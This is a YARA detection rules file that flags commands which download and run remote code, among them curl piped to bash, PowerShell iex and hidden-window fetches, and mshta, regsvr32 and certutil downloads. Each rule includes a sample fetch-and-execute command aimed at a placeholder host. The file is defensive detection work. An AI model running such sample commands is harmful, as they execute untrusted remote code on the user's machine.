/*
 * Lines that fetch a program and run it unseen. Vendors publish installers in this form, so the
 * verdict is "suspicious": the person is asked and told to download first. Where the line also
 * hides what it does, it is malicious.
 */

rule Download_Piped_To_Shell
{
    meta:
        description = "Fetches a script and feeds it to an interpreter without keeping it"
        verdict = "suspicious"
        severity = "medium"
        confidence = 60
        technique = "T1105"
        advice = "download_first"
        pes_sample = "curl -fsSL https://files.example/setup | sudo bash -s -- --yes"

    strings:
        $curl = /\bcurl(\.exe)?["']?[ \t]([^\n|]{0,250}\|&?){1,3}[ \t]{0,8}(sudo([ \t]{1,3}-[A-Za-z]{1,3}){0,3}[ \t]{1,3}|env[ \t]{1,3}([A-Z_]{1,30}=[^ \n]{0,250}[ \t]){1,4}|exec[ \t]|nohup[ \t]|command[ \t]){0,2}["']?(\/[a-z\/]{1,24}\/)?((ba|z|da|k|c|tc|fi|a)?sh|python[0-9.]{0,4}|perl|ruby|node|php|osascript)([^A-Za-z0-9_.\/-]|$)/
        $wget = /\b(wget2?|fetch|aria2c|lynx|axel)[ \t]([^\n|]{0,250}\|&?){1,3}[ \t]{0,8}(sudo([ \t]{1,3}-[A-Za-z]{1,3}){0,3}[ \t]{1,3}|env[ \t]{1,3}([A-Z_]{1,30}=[^ \n]{0,250}[ \t]){1,4}|exec[ \t]|nohup[ \t]|command[ \t]){0,2}["']?(\/[a-z\/]{1,24}\/)?((ba|z|da|k|c|tc|fi|a)?sh|python[0-9.]{0,4}|perl|ruby|node|php|osascript)([^A-Za-z0-9_.\/-]|$)/

    condition:
        filesize < 64KB and any of them
}

rule Download_Substituted_Into_Shell
{
    meta:
        description = "Runs what a download prints, by command or process substitution"
        verdict = "suspicious"
        severity = "medium"
        confidence = 60
        technique = "T1105"
        advice = "download_first"
        pes_sample = "bash <(curl -s https://files.example/setup)"

    strings:
        $process = /(\b(ba|z|k|da)?sh|\bsource|\.)[ \t][^\n]{0,250}<\([ \t]{0,4}(curl|wget|fetch)[ \t]/
        $dash_c = /\b(ba|z|k|da)?sh[ \t]{1,4}-[a-z]{0,4}c[ \t]{1,4}["']?(\$\(|`)[ \t]{0,4}(curl|wget|fetch)[ \t]/
        $eval = /\beval[ \t]{1,4}["']?(\$\(|`)[ \t]{0,4}(curl|wget|fetch)[ \t]/
        $here = /\b(ba|z|k|da)?sh[ \t]{0,4}<<<[ \t]{0,4}["']?(\$\(|`)[ \t]{0,4}(curl|wget|fetch)[ \t]/

    condition:
        filesize < 64KB and any of them
}

rule Download_Then_Execute
{
    meta:
        description = "Saves a download, marks it executable and starts it in one line"
        verdict = "suspicious"
        severity = "medium"
        confidence = 55
        technique = "T1105"
        advice = "download_first"
        pes_sample = "wget -qO /tmp/u https://files.example/u; chmod +x /tmp/u; /tmp/u &"

    strings:
        $chmod = /\b(curl|wget)[ \t][^\n]{0,250}(&&|;)[ \t]{0,4}(sudo[ \t]{1,3})?chmod[ \t][^\n;&]{1,250}(&&|;)[ \t]{0,4}(sudo[ \t]{1,3}|nohup[ \t]{1,3}|exec[ \t]{1,3}|setsid[ \t]{1,3}){0,2}["']?(\.\/|\/(var\/)?tmp\/|\/dev\/shm\/|~\/|\$HOME|\$TMP|\$\{?TMPDIR)/
        $shell = /\b(curl|wget)[ \t][^\n]{0,250}[ \t](\/(var\/)?tmp|\/dev\/shm)\/[^\n;&]{1,250}(&&|;)[ \t]{0,4}(sudo[ \t]{1,3})?(ba|z|da|k)?sh[ \t]{1,4}["']?(\/(var\/)?tmp|\/dev\/shm)\//

    condition:
        filesize < 64KB and any of them
}

rule Interpreter_Download_Run
{
    meta:
        description = "An interpreter's one-liner that fetches code and evaluates it"
        verdict = "suspicious"
        severity = "medium"
        confidence = 70
        technique = "T1059.006"
        advice = "download_first"
        pes_sample = "python3 -c \"import urllib.request as u;exec(u.urlopen('https://files.example/x').read())\""

    strings:
        $python = /\b(exec|eval)[ \t]{0,3}\([^\n]{0,250}(urlopen|requests\.get|urlretrieve)[ \t]{0,3}\(/
        $perl = /\beval[ \t]{0,3}\(?[ \t]{0,3}(LWP::Simple::)?get[ \t]{0,3}\(/
        $php = /\beval[ \t]{0,3}\([^\n]{0,250}file_get_contents[ \t]{0,3}\([ \t]{0,3}["']{1,3}https?:/
        $ruby = /\beval[ \t]{0,3}\(?[^\n]{0,250}(URI\.open|Net::HTTP\.get|open)[ \t]{0,3}\(?[^\n]{0,20}["']{1,3}https?:/

    condition:
        filesize < 64KB and any of them
}

rule PowerShell_Download_Run
{
    meta:
        description = "PowerShell fetches code and evaluates it"
        verdict = "suspicious"
        severity = "medium"
        confidence = 65
        technique = "T1059.001"
        advice = "download_first"
        pes_sample = "irm https://files.example/setup.ps1 | iex"

    strings:
        $iex_first = /\b(iex|invoke-expression)[ \t]{0,4}[^\n]{0,250}(\.download(string|data|file)[ \t]{0,3}\(|\b(irm|iwr|invoke-webrequest|invoke-restmethod)[ \t])/ nocase
        $iex_last = /(\.download(string|data)[ \t]{0,3}\(|\b(irm|iwr|invoke-webrequest|invoke-restmethod|curl(\.exe)?|wget)[ \t])[^\n]{0,250}[|;][ \t]{0,5}(iex|invoke-expression)([^A-Za-z0-9_-]|$)/ nocase
        $block = /\[scriptblock\]::create[ \t]{0,3}\([^\n]{0,250}(\b(irm|iwr|invoke-webrequest|invoke-restmethod)[ \t]|\.downloadstring)/ nocase

    condition:
        filesize < 64KB and any of them
}

rule PowerShell_Hidden_Download
{
    meta:
        description = "PowerShell hides its window and fetches or decodes something"
        verdict = "malicious"
        severity = "high"
        confidence = 85
        technique = "T1564.003"
        advice = "do_not_run"
        pes_sample = "powershell -w hidden -c \"iwr https://files.example/a.ps1 -OutFile $p; start $p\""

    strings:
        $hidden = /\b(powershell|pwsh)(\.exe)?["']?[ \t][^\n]{0,250}[-\/]w[indowstyle]{0,11}[ \t]{1,4}["']?(h(id|idden)?|1|2|mi[nimzed]{0,7})["']?[ \t;]/ nocase
        $fetch = /(\b(irm|iwr|invoke-webrequest|invoke-restmethod|start-bitstransfer|curl(\.exe)?|wget)[ \t]|\.download(string|file|data)[ \t]{0,3}\(|net\.webclient|\bmshta[ \t]|[-\/]e(nc|\^nc)[odeman^]{0,24}[ \t]["']?[A-Za-z0-9+\/]{32,})/ nocase

    condition:
        filesize < 64KB and all of them
}

rule Windows_Tool_Runs_Remote_Code
{
    meta:
        description = "A tool of Windows is pointed at code on another machine"
        verdict = "malicious"
        severity = "high"
        confidence = 85
        technique = "T1218"
        advice = "do_not_run"
        pes_sample = "mshta https://files.example/kb.hta"

    strings:
        $mshta = /\bmshta(\.exe)?["']?[ \t]{1,8}["']?(https?:|\\\\|vbscript:|javascript:)/ nocase
        $regsvr32 = /\bregsvr32(\.exe)?["']?[ \t][^\n]{0,250}[\/-]i:["']?(https?:|ftp:|\\\\)/ nocase
        $rundll32 = /\brundll32(\.exe)?["']?[ \t]{1,8}["']?(https?:|javascript:|vbscript:|\\\\[a-z0-9][^\n]{0,250}\.dll)/ nocase
        $script_host = /\b(wscript|cscript)(\.exe)?["']?[ \t][^\n]{0,40}(\\\\[a-z0-9]|https?:)/ nocase

    condition:
        filesize < 64KB and any of them
}

rule Windows_Tool_Downloads
{
    meta:
        description = "A tool of Windows that is not made for it fetches or installs from an address"
        verdict = "suspicious"
        severity = "medium"
        confidence = 60
        technique = "T1105"
        advice = "download_first"
        pes_sample = "certutil -urlcache -split -f https://files.example/a.exe a.exe"

    strings:
        $certutil = /\bcertutil(\.exe)?["']?[ \t][^\n]{0,250}-(urlcache|verifyctl)[ \t][^\n]{0,250}(https?|ftp):/ nocase
        $bitsadmin = /\bbitsadmin(\.exe)?["']?[ \t][^\n]{0,40}\/(transfer|addfile)[ \t][^\n]{0,250}(https?|ftp):/ nocase
        $msiexec = /\bmsiexec(\.exe)?["']?[ \t][^\n]{0,40}[\/-](i|package)[ \t]{1,4}["']?https?:/ nocase

    condition:
        filesize < 64KB and any of them
}
